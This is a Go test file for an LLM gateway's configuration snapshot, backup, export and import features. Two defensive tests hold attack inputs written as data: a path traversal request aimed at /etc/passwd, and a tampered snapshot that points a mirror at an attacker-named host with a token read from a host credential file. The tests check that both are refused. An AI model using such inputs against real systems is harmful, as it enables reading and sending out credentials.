package admin

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/infera/infera/config"
)

func snapshotNames(t *testing.T, dir string) []string {
	t.Helper()
	s := &snapshots{dir: dir}
	list, err := s.list()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, i := range list {
		out = append(out, i.Name)
	}
	return out
}

func TestSnapshotsRotateAndRestoreNewestOnStart(t *testing.T) {
	dir := t.TempDir()
	keep := config.Backup{IntervalSeconds: 3600, Keep: 2}
	e := newEnv(t, envOpts{snapshotDir: dir, backup: &keep})
	for i, alg := range []string{"round-robin", "least-tokens", "least-requests"} {
		e.put("load_balancing", `{"algorithm":"`+alg+`"}`, 200)
		if _, err := e.a.snapshot(kindAuto); err != nil {
			t.Fatal(err)
		}
		time.Sleep(2 * time.Millisecond) // distinct names
		if n := len(snapshotNames(t, dir)); n != min(i+1, 2) {
			t.Fatalf("after %d snapshots: %d kept", i+1, n)
		}
	}
	// Unchanged data: no new automatic snapshot.
	before := snapshotNames(t, dir)
	if info, err := e.a.snapshot(kindAuto); err != nil || info.Name != "" {
		t.Fatalf("unchanged snapshot written: %+v %v", info, err)
	}
	if got := snapshotNames(t, dir); strings.Join(got, ",") != strings.Join(before, ",") {
		t.Fatalf("snapshots changed: %v -> %v", before, got)
	}
	// A manual snapshot is rotated on its own.
	if r := e.do("POST", "/api/backup", ""); r.status != 201 {
		t.Fatalf("manual snapshot: %d %s", r.status, r.body)
	}
	e.put("debug", `{"decision_header":true}`, 200)
	e.a.Close() // a last snapshot at shutdown
	if n := len(snapshotNames(t, dir)); n != 3 {
		t.Fatalf("want 2 auto + 1 manual, got %v", snapshotNames(t, dir))
	}
	for _, n := range snapshotNames(t, dir) {
		fi, _ := os.Stat(filepath.Join(dir, n))
		if fi.Mode().Perm() != 0o600 {
			t.Fatalf("%s has mode %v", n, fi.Mode())
		}
	}
	// A new process restores the newest one.
	e2 := newEnv(t, envOpts{snapshotDir: dir, backup: &keep})
	c := e2.store.Load()
	if c.LoadBalancing.Algorithm != "least-requests" || !c.Debug.DecisionHeader {
		t.Fatalf("restored %+v %+v", c.LoadBalancing, c.Debug)
	}
	if e2.store.Version() < 5 {
		t.Fatalf("version did not continue: %d", e2.store.Version())
	}
}

func TestCorruptNewestSnapshotFallsBackToThePreviousOne(t *testing.T) {
	logs := captureLogs(t)
	dir := t.TempDir()
	e := newEnv(t, envOpts{snapshotDir: dir})
	e.put("load_balancing", `{"algorithm":"round-robin"}`, 200)
	good, err := e.a.snapshot(kindAuto)
	if err != nil {
		t.Fatal(err)
	}
	e.put("load_balancing", `{"algorithm":"least-tokens"}`, 200)
	time.Sleep(2 * time.Millisecond)
	bad, err := e.a.snapshot(kindAuto)
	if err != nil {
		t.Fatal(err)
	}
	e.a.snaps = nil // no shutdown snapshot
	e.a.Close()
	// A torn write (what a crash without the rename would leave) and a
	// flipped byte (the checksum catches it) both fall back.
	data, _ := os.ReadFile(filepath.Join(dir, bad.Name))
	// An edit with its checksum line taken out is no stored snapshot
	// either (it was restored: the checksum was optional, as on import).
	var noSum map[string]json.RawMessage
	if err := json.Unmarshal(data, &noSum); err != nil {
		t.Fatal(err)
	}
	delete(noSum, "sha256")
	noSum["config"] = json.RawMessage(strings.Replace(string(noSum["config"]), "least-tokens", "round-robin", 1))
	edited, _ := json.Marshal(noSum)
	if !strings.Contains(string(edited), `"round-robin"`) {
		t.Fatal("the edit did not take")
	}
	noSum["config"] = json.RawMessage(strings.Replace(string(noSum["config"]), "round-robin", "least-requests", 1))
	edited, _ = json.Marshal(noSum)
	for _, corrupt := range [][]byte{data[:len(data)/2], []byte(strings.Replace(string(data), "least-tokens", "least-tokenz", 1)), {}, edited} {
		if err := os.WriteFile(filepath.Join(dir, bad.Name), corrupt, 0o600); err != nil {
			t.Fatal(err)
		}
		e2 := newEnv(t, envOpts{snapshotDir: dir})
		if alg := e2.store.Load().LoadBalancing.Algorithm; alg != "round-robin" {
			t.Fatalf("restored %q, want the previous snapshot %s", alg, good.Name)
		}
		e2.a.snaps = nil
	}
	if !strings.Contains(logs.String(), "snapshot unusable; trying the previous one") || !strings.Contains(logs.String(), bad.Name) {
		t.Fatal("fallback reason not logged")
	}
}

// A reload lowering backup.keep prunes the manual snapshots too at the next
// automatic one (they stayed until the next manual snapshot).
func TestALoweredKeepPrunesManualSnapshotsAtTheNextCycle(t *testing.T) {
	dir := t.TempDir()
	keep := config.Backup{IntervalSeconds: 3600, Keep: 5}
	e := newEnv(t, envOpts{snapshotDir: dir, backup: &keep})
	for range 4 {
		if r := e.do("POST", "/api/backup", ""); r.status != 201 {
			t.Fatalf("manual snapshot: %d %s", r.status, r.body)
		}
		time.Sleep(2 * time.Millisecond)
	}
	// The next cycle, under keep 2 (the gateway reads it from the backup
	// section; this harness fixes it, so the write is called with it).
	sn := e.a.snaps
	sn.mu.Lock()
	c, v := e.store.Current()
	_, err := sn.write(c, v, kindAuto, 2)
	sn.mu.Unlock()
	if err != nil {
		t.Fatal(err)
	}
	manual := 0
	for _, n := range snapshotNames(t, dir) {
		if strings.HasSuffix(n, "-manual.json") || strings.Contains(n, "-manual-") {
			manual++
		}
	}
	if manual != 2 {
		t.Fatalf("%d manual snapshots kept after keep went to 2: %v", manual, snapshotNames(t, dir))
	}
}

// A config file modified after the newest snapshot (a hand edit made while
// the router was stopped) wins at start: the later change wins.
func TestConfigFileChangedAfterTheNewestSnapshotWinsAtStart(t *testing.T) {
	dir := t.TempDir()
	e := newEnv(t, envOpts{snapshotDir: dir})
	e.put("load_balancing", `{"algorithm":"round-robin"}`, 200)
	e.a.Close()
	// The file's mtime is set after the snapshot's time: the kernel stamps
	// files with a coarse clock (a tick, up to 10 ms), so a file written
	// a few milliseconds after the snapshot may carry an earlier time.
	doc := `{"load_balancing":{"algorithm":"least-tokens"}}`
	e2 := newEnv(t, envOpts{snapshotDir: dir, file: doc, fileMtime: time.Now().Add(time.Second)})
	if alg := e2.store.Load().LoadBalancing.Algorithm; alg != "least-tokens" {
		t.Fatalf("a snapshot older than the config file replaced it: %q", alg)
	}
	if b, _ := os.ReadFile(e2.path); string(b) != doc {
		t.Fatalf("the file was rewritten: %s", b)
	}
}

// The configuration center restores the newest backup at start. With a
// config file it did not (the file always won), so a node rebuilt from its
// deployment's file lost every change made through the console and saved
// in the snapshot directory. A snapshot newer than the file is restored,
// written to the file, the file's startup settings kept and its previous
// bytes kept beside it.
func TestStartRestoresASnapshotNewerThanTheConfigFile(t *testing.T) {
	dir := t.TempDir()
	orig := `{"llm_gateway":{"persist_snapshot_dir":"` + dir + `"},"load_balancing":{"algorithm":"round-robin"}}`
	e := newEnv(t, envOpts{snapshotDir: dir, file: orig})
	e.put("session_affinity", `{"enabled":true,"require_session_id":true}`, 200)
	e.a.Close() // the shutdown snapshot
	// The node is rebuilt: its deployment's file, written an hour ago.
	if err := os.WriteFile(e.path, []byte(orig), 0o600); err != nil {
		t.Fatal(err)
	}
	e2 := newEnv(t, envOpts{snapshotDir: dir, filePath: e.path, fileMtime: time.Now().Add(-time.Hour)})
	c := e2.store.Load()
	if !c.SessionAffinity.RequireSessionID || c.LoadBalancing.Algorithm != "round-robin" || c.LLMGateway.PersistSnapshotDir != dir {
		t.Fatalf("not restored: %+v %+v %+v", c.SessionAffinity, c.LoadBalancing, c.LLMGateway)
	}
	onDisk, err := config.ReadFile(e.path)
	if err != nil || !onDisk.SessionAffinity.RequireSessionID {
		t.Fatalf("the file does not hold the restored data: %v", err)
	}
	if b, err := os.ReadFile(e.path + ".before-restore"); err != nil || string(b) != orig {
		t.Fatalf("the file's previous bytes were not kept: %q %v", b, err)
	}
	// The next start finds the file holding the newest snapshot's data and
	// leaves it alone.
	e2.a.Close()
	before, _ := os.ReadFile(e.path)
	os.Chtimes(e.path, time.Now().Add(-time.Hour), time.Now().Add(-time.Hour))
	e3 := newEnv(t, envOpts{snapshotDir: dir, filePath: e.path})
	if after, _ := os.ReadFile(e.path); string(after) != string(before) || e3.store.Version() != 1 {
		t.Fatalf("an unchanged start rewrote the file (version %d)", e3.store.Version())
	}
}

// An edit of the file followed at once by a restart (before the poll sees
// it): the shutdown snapshot picks the edit up, so the next start does not
// restore the data from before the edit over it.
func TestShutdownSnapshotIncludesAHandEditThePollHasNotSeen(t *testing.T) {
	dir := t.TempDir()
	e := newEnv(t, envOpts{snapshotDir: dir, file: `{"load_balancing":{"algorithm":"round-robin"}}`})
	e.put("debug", `{"decision_header":true}`, 200)
	edited := strings.Replace(string(must(os.ReadFile(e.path))), `"round-robin"`, `"least-tokens"`, 1)
	if err := os.WriteFile(e.path, []byte(edited), 0o600); err != nil {
		t.Fatal(err)
	}
	e.a.Close()
	os.Chtimes(e.path, time.Now().Add(-time.Hour), time.Now().Add(-time.Hour))
	e2 := newEnv(t, envOpts{snapshotDir: dir, filePath: e.path})
	if c := e2.store.Load(); c.LoadBalancing.Algorithm != "least-tokens" || !c.Debug.DecisionHeader {
		t.Fatalf("after an edit and a restart: %q, decision header %v", c.LoadBalancing.Algorithm, c.Debug.DecisionHeader)
	}
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func TestBackupLoopTakesSnapshotsAtTheConfiguredInterval(t *testing.T) {
	dir := t.TempDir()
	b := config.Backup{IntervalSeconds: 1, Keep: 5}
	e := newEnv(t, envOpts{snapshotDir: dir, backup: &b})
	e.put("load_balancing", `{"algorithm":"round-robin"}`, 200)
	deadline := time.Now().Add(5 * time.Second)
	for len(snapshotNames(t, dir)) == 0 {
		if time.Now().After(deadline) {
			t.Fatal("no automatic snapshot within 5 s at interval 1 s")
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func TestExportImportRoundTrip(t *testing.T) {
	e := newEnv(t, envOpts{file: proxiesDoc, snapshotDir: t.TempDir()})
	e.put("session_affinity", `{"enabled":true}`, 200)
	exp := e.do("GET", "/api/backup/export", "")
	if exp.status != 200 || !strings.Contains(exp.hdr.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export: %d %v", exp.status, exp.hdr)
	}
	if strings.Contains(string(exp.body), "sk-secret") {
		t.Fatal("an upstream key in clear in the export")
	}
	if !strings.Contains(string(exp.body), sealedPrefix) {
		t.Fatal("upstream keys not sealed in the export")
	}
	// Restore it on another gateway with the same admin key.
	e2 := newEnv(t, envOpts{snapshotDir: t.TempDir()})
	dry := e2.do("POST", "/api/backup/import?dry_run=1", string(exp.body))
	if dry.status != 200 || !strings.Contains(string(dry.body), "session_affinity.enabled") || e2.store.Version() != 1 {
		t.Fatalf("dry run: %d %s", dry.status, dry.body)
	}
	r := e2.do("POST", "/api/backup/import", string(exp.body))
	if r.status != 200 {
		t.Fatalf("import: %d %s", r.status, r.body)
	}
	c := e2.store.Load()
	if !c.SessionAffinity.Enabled || c.SplitProxy.Proxies[1].APIKey.Reveal() != "sk-secret-a-111" {
		t.Fatalf("imported %+v", c.SessionAffinity)
	}
	// The data before the import was saved as a manual snapshot.
	var b Backup
	json.Unmarshal(e2.do("GET", "/api/backup", "").body, &b)
	if b.Mode != "snapshots" || len(b.Snapshots) != 1 || b.Snapshots[0].Kind != kindManual {
		t.Fatalf("pre-import snapshot: %+v", b)
	}
	if got := e2.do("GET", "/api/backup/snapshots/"+b.Snapshots[0].Name, ""); got.status != 200 || !strings.Contains(string(got.body), snapshotFormat) {
		t.Fatalf("download snapshot: %d", got.status)
	}
	if got := e2.do("GET", "/api/backup/snapshots/..%2f..%2fetc%2fpasswd", ""); got.status != 404 {
		t.Fatalf("path traversal: %d", got.status)
	}
	// A well-formed name with no such file: 404 in the JSON error shape.
	missing := "snapshot-20991204T113246.093Z-auto.json"
	if got := e2.do("GET", "/api/backup/snapshots/"+missing, ""); got.status != 404 || !strings.Contains(string(got.body), `"error"`) {
		t.Fatalf("missing snapshot: %d %s", got.status, got.body)
	}
	// Another admin key cannot open the sealed secrets: refused whole.
	e3 := newEnv(t, envOpts{key: "another-admin-key-42"})
	req, _ := http.NewRequest("POST", e3.srv.URL+"/api/backup/import", strings.NewReader(string(exp.body)))
	req.Header.Set("Authorization", "Bearer another-admin-key-42")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var eb errorJSON
	json.NewDecoder(res.Body).Decode(&eb)
	res.Body.Close()
	if res.StatusCode != 400 || eb.Error.Path != "config.split_proxy.proxies[1].api_key" || e3.store.Version() != 1 {
		t.Fatalf("import with another key: %d %+v", res.StatusCode, eb)
	}
}

func TestBadImportChangesNothing(t *testing.T) {
	e := newEnv(t, envOpts{snapshotDir: t.TempDir()})
	e.put("load_balancing", `{"algorithm":"round-robin"}`, 200)
	exp := string(e.do("GET", "/api/backup/export", "").body)
	var f snapshotFile
	json.Unmarshal([]byte(exp), &f)
	withConfig := func(cfg string, keepSum bool) string {
		g := f
		g.Config = json.RawMessage(cfg)
		if !keepSum {
			g.SHA256 = ""
		}
		data, _ := json.Marshal(g)
		return string(data)
	}
	cases := []struct{ body, path string }{
		{"", ""},
		{"not json", ""},
		{`{"format":"something-else"}`, "format"},
		{`{"format":"infera-snapshot","format_version":99,"config":{}}`, "format_version"},
		{`{"format":"infera-snapshot","format_version":1}`, "config"},
		{exp[:len(exp)/2], ""},
		{strings.Replace(exp, "round-robin", "least-tokens", 1), "sha256"},
		{withConfig(`{"load_balancing":{"algorithm":"fastest"}}`, false), "config.load_balancing.algorithm"},
		{withConfig(`{"session_affinity":{"ttl_s":-1}}`, false), "config.session_affinity.ttl_s"},
		{withConfig(`{"nope":1}`, false), "config.nope"},
		{withConfig(`[]`, false), "config"},
	}
	v := e.store.Version()
	before, _ := encodeClear(e.store.Load())
	for _, c := range cases {
		r := e.do("POST", "/api/backup/import", c.body)
		if r.status != 400 {
			t.Fatalf("bad import %.60q: %d %s", c.body, r.status, r.body)
		}
		if p, _ := r.errPath(t); p != c.path {
			t.Fatalf("bad import %.60q: error at %q, want %q", c.body, p, c.path)
		}
	}
	after, _ := encodeClear(e.store.Load())
	if e.store.Version() != v || string(before) != string(after) {
		t.Fatal("a bad import changed the config")
	}
	var b Backup
	json.Unmarshal(e.do("GET", "/api/backup", "").body, &b)
	if len(b.Snapshots) != 0 {
		t.Fatalf("a bad import wrote a snapshot: %+v", b.Snapshots)
	}
	// An edited file without its checksum imports on purpose.
	if r := e.do("POST", "/api/backup/import", withConfig(`{"load_balancing":{"algorithm":"least-tokens"}}`, false)); r.status != 200 {
		t.Fatalf("edited import: %d %s", r.status, r.body)
	}
}

func TestManualSnapshotNeedsADirectory(t *testing.T) {
	e := newEnv(t, envOpts{})
	if r := e.do("POST", "/api/backup", ""); r.status != http.StatusConflict {
		t.Fatalf("%d %s", r.status, r.body)
	}
	var b Backup
	json.Unmarshal(e.do("GET", "/api/backup", "").body, &b)
	if b.Mode != "off" || b.Settings != config.DefaultBackup() {
		t.Fatalf("%+v", b)
	}
}

// llm_gateway and storage are startup configuration read from the config
// file: a router without one refuses to change them (the change was
// accepted, logged as taking effect at the next start, and lost).
func TestStartupSectionsNeedAConfigFile(t *testing.T) {
	e := newEnv(t, envOpts{})
	for _, sec := range []string{"llm_gateway", "storage"} {
		body := `{"persist_snapshot_dir":"/tmp/x"}`
		if sec == "storage" {
			body = `[]`
		}
		r := e.put(sec, body, 409)
		if !strings.Contains(string(r.body), "startup configuration") {
			t.Fatalf("%s: %s", sec, r.body)
		}
	}
	f := newEnv(t, envOpts{file: `{}`})
	f.put("llm_gateway", `{"persist_snapshot_dir":"/tmp/x"}`, 200) // the file carries it to the next start
}

// A snapshot edited to hold a secret reference the gateway's config does
// not hold (its checksum recomputed: it is a plain digest) is not restored:
// whoever can write to the snapshot directory must not make the gateway
// read a host file and send it to an address of their choosing.
func TestASnapshotCannotMakeTheGatewayReadHostFiles(t *testing.T) {
	dir := t.TempDir()
	keep := config.Backup{IntervalSeconds: 3600, Keep: 5}
	e := newEnv(t, envOpts{snapshotDir: dir, backup: &keep})
	e.put("debug", `{"decision_header":true}`, 200)
	info, err := e.a.snapshot(kindManual)
	if err != nil {
		t.Fatal(err)
	}
	e.a.Close()
	hostFile := filepath.Join(t.TempDir(), "service-account-token")
	if err := os.WriteFile(hostFile, []byte("host-only-credential-4711"), 0o600); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, info.Name)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var f snapshotFile
	if err := json.Unmarshal(data, &f); err != nil {
		t.Fatal(err)
	}
	doc, err := decodeDoc(f.Config)
	if err != nil {
		t.Fatal(err)
	}
	doc["mirror"] = map[string]any{"enabled": true, "target_address": "http://collector.attacker.example",
		"sampling_ratio": 100, "auth_token": "file:" + hostFile}
	f.Config, _ = json.Marshal(doc)
	sum := sha256.Sum256(f.Config)
	f.SHA256 = hex.EncodeToString(sum[:])
	out, _ := json.Marshal(f)
	if err := os.WriteFile(path, out, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, n := range snapshotNames(t, dir) { // only the edited one is left to restore
		if n != info.Name {
			os.Remove(filepath.Join(dir, n))
		}
	}
	// Without a config file, no snapshot that restores refuses the start.
	store := config.NewStore("", nil)
	_, err = New(Options{Store: store, Key: testKey, SnapshotDir: dir})
	if m := store.Load().Mirror; err == nil || !strings.Contains(err.Error(), "secret reference") || m.Enabled || m.AuthToken.Reveal() == "host-only-credential-4711" {
		t.Fatalf("the edited snapshot: start %v, mirror %v to %s", err, m.Enabled, m.TargetAddress)
	}
}

// An import holding what this router's flags refuse (a worker id --workers
// also gives, static workers under etcd discovery: the store's check) is
// refused by the dry run and by the import before anything is written. The
// dry run answered valid, and the import took the pre-import snapshot
// (rotating out the oldest manual one) before the write refused it.
func TestAnImportTheRoutersFlagsRefuseIsRefusedBeforeTheDryRunAndTheSnapshot(t *testing.T) {
	e := newEnv(t, envOpts{snapshotDir: t.TempDir()})
	e.store.SetCheck(func(c *config.Config) error {
		if len(c.Workers) > 0 {
			return &config.FieldError{Path: "workers", Msg: "static workers are for --discovery-backend static"}
		}
		return nil
	})
	var f snapshotFile
	json.Unmarshal(e.do("GET", "/api/backup/export", "").body, &f)
	f.SHA256 = ""
	f.Config = json.RawMessage(`{"workers":[{"id":"a","url":"http://127.0.0.1:9","models":["m"]}]}`)
	body, _ := json.Marshal(f)
	v := e.store.Version()
	for _, q := range []string{"?dry_run=1", ""} {
		r := e.do("POST", "/api/backup/import"+q, string(body))
		if p, _ := r.errPath(t); r.status != 400 || p != "config.workers" {
			t.Fatalf("import%s of what the flags refuse: %d %s", q, r.status, r.body)
		}
	}
	var b Backup
	json.Unmarshal(e.do("GET", "/api/backup", "").body, &b)
	if e.store.Version() != v || len(b.Snapshots) != 0 {
		t.Fatalf("a refused import left version %d (was %d) and snapshots %+v", e.store.Version(), v, b.Snapshots)
	}
}

// While the config file holds a hand edit that does not parse, an import is
// refused as every write is, by the dry run too, and takes no snapshot:
// the dry run answered valid, and each import wrote a pre-import snapshot
// (rotating out the oldest manual one) before answering 409.
func TestAnImportOverABrokenHandEditTakesNoSnapshot(t *testing.T) {
	e := newEnv(t, envOpts{file: `{}`, snapshotDir: t.TempDir()})
	exp := string(e.do("GET", "/api/backup/export", "").body)
	if err := os.WriteFile(e.path, []byte(`{"load_balancing":`), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, q := range []string{"?dry_run=1", ""} {
		if r := e.do("POST", "/api/backup/import"+q, exp); r.status != 409 {
			t.Fatalf("import%s over a broken hand edit: %d %s", q, r.status, r.body)
		}
	}
	var b Backup
	json.Unmarshal(e.do("GET", "/api/backup", "").body, &b)
	if len(b.Snapshots) != 0 {
		t.Fatalf("a refused import wrote snapshots %+v", b.Snapshots)
	}
}

// Without a config file, a snapshot directory whose snapshots none restores
// (sealed under another key: the admin key was changed without
// --admin-seal-key) refuses the start, saying why. The router started from
// the defaults: no users, so with no --api-key the inference endpoints took
// requests without a key, and its first snapshot hid the real ones. With a
// config file the file serves, as before.
func TestSnapshotsNoneOfWhichRestoresRefuseAStartWithoutAConfigFile(t *testing.T) {
	dir := t.TempDir()
	e := newEnv(t, envOpts{snapshotDir: dir})
	e.put("mirror", `{"target_address":"http://127.0.0.1:9","auth_token":"sk-mirror-0815"}`, 200)
	if r := e.do("POST", "/api/users", `{"name":"alice"}`); r.status != 201 {
		t.Fatalf("create user: %d %s", r.status, r.body)
	}
	e.a.Close() // the shutdown snapshot
	before, _ := os.ReadDir(dir)

	_, err := New(Options{Store: config.NewStore("", nil), Key: "another-admin-key-0123456789", SnapshotDir: dir})
	if err == nil || !strings.Contains(err.Error(), "none of the") || !strings.Contains(err.Error(), "mirror.auth_token") {
		t.Fatalf("start with snapshots sealed under another key: %v", err)
	}
	if after, _ := os.ReadDir(dir); len(after) != len(before) {
		t.Fatalf("the refused start changed the snapshot directory: %d files, was %d", len(after), len(before))
	}
	// With the right key it restores.
	e2 := newEnv(t, envOpts{snapshotDir: dir})
	if _, ok := findUser(e2.store.Load(), "alice"); !ok {
		t.Fatal("the snapshots did not restore with their key")
	}
	// With a config file, the file serves.
	e3 := newEnv(t, envOpts{snapshotDir: dir, file: `{}`, key: "another-admin-key-0123456789"})
	if len(e3.store.Load().Users) != 0 {
		t.Fatal("the config file did not serve")
	}
}

// The warning that upstream keys are stored unsealed is given where they
// are stored (snapshots, Redis), not to every router without an admin key:
// one without a snapshot directory or --state stores none.
func TestTheUnsealedKeysWarningIsGivenOnlyWhereKeysAreStored(t *testing.T) {
	for _, c := range []struct {
		dir  string
		warn bool
	}{{"", false}, {t.TempDir(), true}} {
		logs := captureLogs(t)
		a, err := New(Options{Store: config.NewStore("", nil), SnapshotDir: c.dir})
		if err != nil {
			t.Fatal(err)
		}
		a.Close()
		if got := strings.Contains(logs.String(), "stored in clear"); got != c.warn {
			t.Errorf("snapshot dir %q: warned %v, want %v", c.dir, got, c.warn)
		}
	}
}

// An import that changes nothing (the current data imported again: a
// second click on Import, a job that imports a reviewed file on a
// schedule) takes no pre-import snapshot. It wrote a copy of the current
// data each time, and rotation (keep per kind) deleted the oldest manual
// snapshot for each copy: with keep 2, two such imports deleted the
// operator's own snapshot of the data before the last real change.
func TestAnImportThatChangesNothingTakesNoSnapshot(t *testing.T) {
	e := newEnv(t, envOpts{file: `{}`, snapshotDir: t.TempDir(), backup: &config.Backup{IntervalSeconds: 3600, Keep: 2}})
	mine := e.do("POST", "/api/backup", "")
	if mine.status != 201 {
		t.Fatalf("manual snapshot: %d %s", mine.status, mine.body)
	}
	var own SnapshotInfo
	json.Unmarshal(mine.body, &own)
	e.put("session_affinity", `{"enabled":true}`, 200)
	exp := string(e.do("GET", "/api/backup/export", "").body)
	v := e.store.Version()
	for i := 0; i < 3; i++ {
		if r := e.do("POST", "/api/backup/import", exp); r.status != 200 {
			t.Fatalf("import %d of the current data: %d %s", i, r.status, r.body)
		}
	}
	if e.store.Version() != v {
		t.Fatalf("imports of the current data made version %d (was %d)", e.store.Version(), v)
	}
	var b Backup
	json.Unmarshal(e.do("GET", "/api/backup", "").body, &b)
	if len(b.Snapshots) != 1 || b.Snapshots[0].Name != own.Name {
		t.Fatalf("after 3 imports that changed nothing the snapshots are %+v: want only the operator's %s", b.Snapshots, own.Name)
	}
	// An import that changes something still saves the data before it.
	e.put("session_affinity", `{"enabled":false}`, 200)
	if r := e.do("POST", "/api/backup/import", exp); r.status != 200 {
		t.Fatalf("import: %d %s", r.status, r.body)
	}
	json.Unmarshal(e.do("GET", "/api/backup", "").body, &b)
	if len(b.Snapshots) != 2 || !e.store.Load().SessionAffinity.Enabled {
		t.Fatalf("an import that changed the data: snapshots %+v, session affinity %+v (want the pre-import snapshot and the import applied)", b.Snapshots, e.store.Load().SessionAffinity)
	}
}
